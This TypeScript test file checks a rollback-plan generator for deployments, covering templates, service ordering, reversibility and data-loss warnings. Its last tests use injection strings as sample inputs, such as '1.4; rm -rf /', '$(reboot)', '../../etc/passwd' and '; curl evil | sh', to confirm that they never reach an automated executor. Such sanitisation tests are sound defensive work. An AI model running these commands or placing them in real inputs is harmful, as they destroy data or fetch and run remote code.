import { expect, test } from 'vitest';
import { sampleChange, samplePlan, sampleStep, sampleTemplate } from '#testing/sample-plans.ts';
import { DAY_MS, fromIso, MINUTE_MS } from '../shared/instant.ts';
import { planFor, templateGaps } from './plan-for.ts';
import type { PlanCatalogue, PlannedChange } from './planned-change.ts';
import type { PlanTemplate } from './plan-template.ts';

const now = fromIso('2026-11-23T15:00:00Z');
const catalogue: PlanCatalogue = {
  services: [
    { id: 'storefront', dependsOn: ['checkout'], owner: 'web' },
    { id: 'checkout', dependsOn: ['ledger'], owner: 'payments' },
    { id: 'ledger', dependsOn: [], owner: '' },
  ],
};

function planOf(change: PlannedChange, templates: PlanTemplate[] = [], register: PlannedChange[] = []) {
  return planFor(change, { templates, register, catalogue, now });
}

test('a plan written for the change comes before any template', () => {
  const plan = planOf(sampleChange({ plan: samplePlan({ rehearsedAt: now }) }), [sampleTemplate()]);
  expect(plan).toMatchObject({ origin: 'written', rehearsedAt: now, steps: [{ title: 'Redeploy 1.4.2' }, {}] });
  expect(plan.steps[0]?.action).toMatchObject({ args: { version: '1.4.2' } });
});

test('a plan in free words is a written plan of one step that a person does', () => {
  const plan = planOf(sampleChange({ revertPlan: 'helm rollback {{release}}' }));
  expect(plan.origin).toBe('written');
  expect(plan.steps).toHaveLength(1);
  expect(plan.steps[0]?.action).toEqual({ executor: 'manual', instructions: 'helm rollback (release)' });
  expect(plan.owner).toBe('payments');
});

test('a template is filled with the version that ran before', () => {
  const rehearsedAt = now - DAY_MS;
  const plan = planOf(sampleChange(), [sampleTemplate({ rehearsedAt, reversibleForMs: DAY_MS, timeBoxMs: MINUTE_MS })]);
  expect(plan).toMatchObject({
    origin: 'template',
    rehearsedAt,
    reversibleUntil: sampleChange().at + DAY_MS,
    timeBoxMs: MINUTE_MS,
  });
  expect(plan.steps.map(({ id, title }) => [id, title])).toEqual([
    ['redeploy', 'Redeploy checkout 1.4.2'],
    ['order', 'Place an order'],
  ]);
});

test('where the change does not say what ran before, the register does: the last deploy there that went well', () => {
  const at = sampleChange().at;
  const before = (id: string, daysBefore: number, own: Partial<PlannedChange>) =>
    sampleChange({ id, at: at - daysBefore * DAY_MS, ...own });
  const register = [
    before('c1', 9, { version: '1.2.0' }),
    before('c2', 5, { version: '1.3.0' }),
    before('c3', 4, { version: '1.3.1', status: 'failed' }),
    before('c4', 3, { version: '1.3.2', status: 'rolled-back' }),
    before('c5', 2, { version: '1.3.3', environment: 'staging' }),
    before('c6', 1, { version: '1.3.4', services: ['ledger'] }),
    before('c7', 1, { version: 'on', kind: 'flag' }),
    before('c8', -1, { version: '1.6.0' }),
  ];
  const plan = planOf(sampleChange({ previousVersion: null }), [], register);
  expect(plan).toMatchObject({ origin: 'derived', rehearsedAt: null, reversible: 'fully' });
  expect(plan.steps[0]?.title).toBe('Redeploy checkout 1.3.0');
  expect(plan.steps[0]?.action).toMatchObject({
    instructions: expect.stringContaining('To production, where it had run since 2026-11-17 12:00 UTC.'),
  });
});

test('a change of several services is undone callers first, the checks of all of them last', () => {
  const change = sampleChange({ services: ['ledger', 'storefront', 'checkout'], previousVersion: null });
  const register = ['ledger', 'storefront', 'checkout'].map((service, index) =>
    sampleChange({ id: service, services: [service], at: change.at - DAY_MS, version: `1.0.${index}` }),
  );
  const templates = ['ledger', 'storefront', 'checkout'].map((service) => sampleTemplate({ service }));
  const plan = planOf(change, templates, register);
  expect(plan.origin).toBe('template');
  expect(plan.steps.map(({ id }) => id)).toEqual([
    ...['storefront-redeploy', 'checkout-redeploy', 'ledger-redeploy'],
    ...['storefront-order', 'checkout-order', 'ledger-order'],
  ]);
  expect(plan.steps.slice(0, 3).map(({ title }) => title)).toEqual([
    'Redeploy storefront 1.0.1',
    'Redeploy checkout 1.0.2',
    'Redeploy ledger 1.0.0',
  ]);
});

test('a plan is as careful as its most careful part', () => {
  const change = sampleChange({ services: ['checkout', 'ledger'] });
  const register = [sampleChange({ id: 'c0', at: change.at - DAY_MS, services: ['checkout', 'ledger'], version: '1' })];
  const templates = [
    sampleTemplate({ rehearsedAt: now - DAY_MS, timeBoxMs: 5 * MINUTE_MS }),
    sampleTemplate({
      service: 'ledger',
      reversible: 'partly',
      alternative: 'Freeze bookings.',
      data: 'loses-data',
      reversibleForMs: DAY_MS,
      rehearsedAt: now - 9 * DAY_MS,
      timeBoxMs: 10 * MINUTE_MS,
      owner: 'books',
    }),
  ];
  expect(planOf(change, templates, register)).toMatchObject({
    reversible: 'partly',
    alternative: 'Freeze bookings.',
    data: 'loses-data',
    reversibleUntil: change.at + DAY_MS,
    rehearsedAt: now - 9 * DAY_MS,
    timeBoxMs: 15 * MINUTE_MS,
    owner: 'payments, books',
  });
});

test('where one of several services has no template the plan is partly derived and never rehearsed', () => {
  const change = sampleChange({ services: ['checkout', 'ledger'] });
  const register = [sampleChange({ id: 'c0', at: change.at - DAY_MS, version: '1.4.0' })];
  const plan = planOf(change, [sampleTemplate({ rehearsedAt: now })], register);
  expect(plan).toMatchObject({ origin: 'partly-derived', rehearsedAt: null });
  expect(plan.steps.map(({ id }) => id)).toEqual(['checkout-redeploy', 'ledger-undo', 'checkout-order']);
});

test('each service whose template is missing or cannot be used is named, and none when there is no template at all', () => {
  const change = sampleChange({ services: ['checkout', 'ledger'], previousVersion: null });
  const gaps = (templates: PlanTemplate[]) => templateGaps(change, { templates, register: [], catalogue, now });
  expect(gaps([sampleTemplate()])).toEqual([
    'The template of checkout cannot be used: nobody knows its "previousVersion".',
    'ledger has no template that fits: add one.',
  ]);
  expect(gaps([])).toEqual([]);
});

test('a template for deploys is not used for a migration', () => {
  expect(planOf(sampleChange({ kind: 'migration' }), [sampleTemplate()]).origin).toBe('derived');
});

test('what may harm data or has no way back says so, and whom to ask', () => {
  const migration = planOf(sampleChange({ kind: 'migration', author: 'dana', services: ['ledger'] }));
  expect(migration).toMatchObject({ origin: 'derived', reversible: 'no', data: 'loses-data' });
  expect(migration.alternative).toMatch(/Ask dana, who made it, what undoing it would do/);
  expect(planOf(sampleChange({ kind: 'command' }))).toMatchObject({ reversible: 'no', data: 'changes-data' });
  expect(planOf(sampleChange({ kind: 'command' })).alternative).toMatch(/Ask payments /);
  expect(planOf(sampleChange({ kind: 'infra', services: [] }))).toMatchObject({ reversible: 'partly' });
  expect(planOf(sampleChange({ kind: 'infra', services: [] })).alternative).toMatch(/Ask the tech lead on call /);
});

test('a flag is switched back, a value is restored', () => {
  expect(planOf(sampleChange({ kind: 'flag' })).steps[0]?.title).toBe('Switch the flag of checkout back in production');
  const config = planOf(sampleChange({ kind: 'config', previousVersion: '30s' }));
  expect(config.steps[0]?.title).toBe('Restore the value before of checkout in production (it was 30s)');
});

test.each([
  ['1.4; rm -rf /', 'a command'],
  ['$(reboot)', 'a substitution'],
  ['`id`', 'backticks'],
  ['1.4 --force', 'a second word'],
  ['--force', 'an option'],
  ['../../etc/passwd', 'a path upwards'],
  ['1.4\nrm', 'a line'],
  ["1.4'", 'a quote'],
  ['{{service}}', 'a place'],
])('a version %j never reaches a machine: it is %s', (previous) => {
  const plan = planOf(sampleChange({ previousVersion: previous }), [sampleTemplate()]);
  expect(plan.origin).toBe('derived');
  expect(plan.steps.every(({ action }) => action.executor === 'manual')).toBe(true);
  const [{ action } = sampleStep()] = plan.steps;
  expect(action).toMatchObject({
    instructions: expect.stringContaining(
      'The template of checkout cannot be used: its "previousVersion" holds characters that are not handed on.',
    ),
  });
  const own = planOf(sampleChange({ previousVersion: previous, plan: samplePlan() }));
  expect(own.steps.map((step) => step.action.executor)).toEqual(['manual', 'manual']);
});

test.each(['v1.4.2', '2026.11.22-rc+1', 'sha256:abc', 'registry.local:5000/shop@1', '@shop/checkout@1.0.0'])(
  'a version %j is handed on',
  (previous) => {
    const plan = planOf(sampleChange({ previousVersion: previous }), [sampleTemplate()]);
    expect(plan.steps[0]?.action).toMatchObject({ args: { version: previous } });
  },
);

test('a title never fills a place, whatever a template asks for', () => {
  const action = { executor: 'runner', runner: 'site', command: 'redeploy', args: { title: '{{title}}' } } as const;
  const plan = planOf(sampleChange({ title: '; curl evil | sh' }), [
    sampleTemplate({ steps: [sampleStep({ action })] }),
  ]);
  expect(plan.steps.map((step) => step.action.executor)).toEqual(['manual']);
});
